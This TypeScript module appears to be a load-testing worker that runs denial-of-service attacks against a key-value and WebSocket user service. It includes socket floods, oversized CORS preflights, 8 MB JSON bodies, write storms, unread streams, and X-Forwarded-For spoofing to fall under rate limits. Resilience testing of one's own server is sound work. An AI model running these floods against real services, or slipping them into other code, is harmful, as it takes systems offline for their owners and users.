/** One address, or one key, that takes as much as it can. Every attack goes on until it is told to end. */
import { connect, type Socket } from 'node:net'
import { clientFrame, upgradeRequest } from './wire.ts'
import { answerQuestions } from './worker.ts'

export interface Attack {
  readonly url: string
  readonly kind: keyof typeof ATTACKS
  /** A live key, whose owner has as many pairs as there may be where `full`. */
  readonly key: string
  readonly owner: string
}

/** Addresses for whom all limits hold: loopback has none. */
const ADDRESS = 'X-Forwarded-For: 203.0.113.66'
const KIB = 1024

let attacking = false
const sockets = new Set<Socket>()
let done: Promise<unknown> = Promise.resolve()
const sent = { requests: 0, connections: 0, bytes: 0 }

/** A connection that sends at once and reads only if told to. */
function open(url: string, bytes: string | Buffer, reads: boolean): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const { promise, resolve } = Promise.withResolvers<Socket>()
  const socket = connect(Number(port), hostname, () => {
    socket.write(bytes)
    sent.connections++
    sent.bytes += bytes.length
    resolve(socket)
  })
  sockets.add(socket)
  socket.on('error', () => resolve(socket))
  socket.on('close', () => {
    sockets.delete(socket)
    resolve(socket)
  })
  if (reads) socket.resume()
  else socket.pause()
  return promise
}

const upgrade = (url: string) => Buffer.from(upgradeRequest(new URL(`${url}/socket`), [ADDRESS]))
const op = (code: number, d: object) => clientFrame(JSON.stringify({ op: code, d }))
/** Ids that nobody has. */
const strangers = (from: number, count: number) =>
  Array.from({ length: count }, (_, at) => String(10n ** 17n + BigInt(from + at)))

async function ask({ url, key }: Attack, method: string, path: string, body?: string): Promise<number> {
  const [name = '', value = ''] = ADDRESS.split(': ')
  const init = { method, headers: { Authorization: key, [name]: value }, ...(body !== undefined && { body }) }
  sent.requests++
  const response = await fetch(url + path, init)
  await response.arrayBuffer()
  return response.status
}

/** Goes on with something until told to end; what fails is tried again a moment later. */
async function repeat(run: () => Promise<unknown>): Promise<void> {
  while (attacking) {
    await run().catch(() => Bun.sleep(20))
    await Bun.sleep(0)
  }
}

const together = (count: number, run: (number: number) => Promise<unknown>) =>
  Promise.all(Array.from({ length: count }, (_, number) => run(number)))

const ATTACKS = {
  /** Sockets that each follow as many people nobody knows as a socket may. */
  async names({ url }: Attack) {
    let first = 0
    await repeat(async () => {
      if (sockets.size >= 900) return Bun.sleep(100)
      const frames = Array.from({ length: 8 }, () => {
        first += 2500
        return op(2, { subscribe_to_ids: strangers(first, 2500) })
      })
      await open(url, Buffer.concat([upgrade(url), ...frames]), false)
    })
  },
  /** Sockets that begin and end following many. */
  async churn({ url }: Attack) {
    const ids = strangers(0, 3000)
    const frames = Buffer.concat(
      Array.from({ length: 30 }, () => [op(2, { subscribe_to_ids: ids }), op(4, { unsubscribe_from_ids: ids })]).flat(),
    )
    await together(10, () =>
      repeat(async () => {
        const socket = await open(url, Buffer.concat([upgrade(url), frames]), true)
        await new Promise(resolve => socket.once('close', resolve))
      }),
    )
  },
  /** Preflights with as much of headers as there may be. */
  async preflights({ url }: Attack) {
    const names = Array.from({ length: 1500 }, (_, at) => `x-h${at}`).join(', ')
    const request = `OPTIONS /v1/users/1 HTTP/1.1\r\nHost: x\r\n${ADDRESS}\r\nOrigin: http://x\r\nAccess-Control-Request-Headers: ${names}\r\n\r\n`
    await together(8, () =>
      repeat(async () => {
        const socket = await open(url, request, false)
        await new Promise<void>(resolve => {
          socket.on('data', () => (attacking ? socket.write(request) : resolve()))
          socket.once('close', () => resolve())
        })
      }),
    )
  },
  /** Bodies of very many tiny pairs. */
  async pairs(attack: Attack) {
    const body = `{${Array.from({ length: 860_000 }, (_, at) => `"${at.toString(36)}":""`).join(',')}}`.slice(
      0,
      8_388_000,
    )
    const whole = `${body.slice(0, body.lastIndexOf(','))}}`
    await together(4, () => repeat(() => ask(attack, 'PATCH', '/v1/users/@me/kv', whole)))
  },
  /** One pair changes, and somebody asks for the whole without reading it, over and over. */
  async versions(attack: Attack) {
    let version = 0
    await repeat(async () => {
      await ask(attack, 'PUT', '/v1/users/@me/kv/v', String(++version))
      await open(attack.url, `GET /v1/users/${attack.owner} HTTP/1.1\r\nHost: x\r\n${ADDRESS}\r\n\r\n`, false)
    })
  },
  /** Very many writes at once, while somebody follows. */
  async writes(attack: Attack) {
    await open(attack.url, Buffer.concat([upgrade(attack.url), op(2, { subscribe_to_all: true })]), true)
    let version = 0
    await together(100, () => repeat(() => ask(attack, 'PUT', '/v1/users/@me/kv/v', String(++version))))
  },
  /** Followers of everybody and event streams that read nothing. */
  async unread(attack: Attack) {
    const { url, owner } = attack
    await together(200, () => open(url, Buffer.concat([upgrade(url), op(2, { subscribe_to_all: true })]), false))
    await together(200, () =>
      open(url, `GET /v1/users/${owner}/events HTTP/1.1\r\nHost: x\r\n${ADDRESS}\r\n\r\n`, false),
    )
    let version = 0
    await repeat(() => ask(attack, 'PUT', '/v1/users/@me/kv/v', String(++version).padEnd(20 * KIB)))
  },
} satisfies Record<string, (attack: Attack) => Promise<unknown>>

export const KINDS = Object.keys(ATTACKS) as readonly (keyof typeof ATTACKS)[]

function begin(attack: Attack): void {
  attacking = true
  done = ATTACKS[attack.kind](attack)
}

async function end(): Promise<typeof sent> {
  attacking = false
  for (const socket of sockets) socket.destroy()
  await done
  return sent
}

if (import.meta.main) answerQuestions({ begin, end })
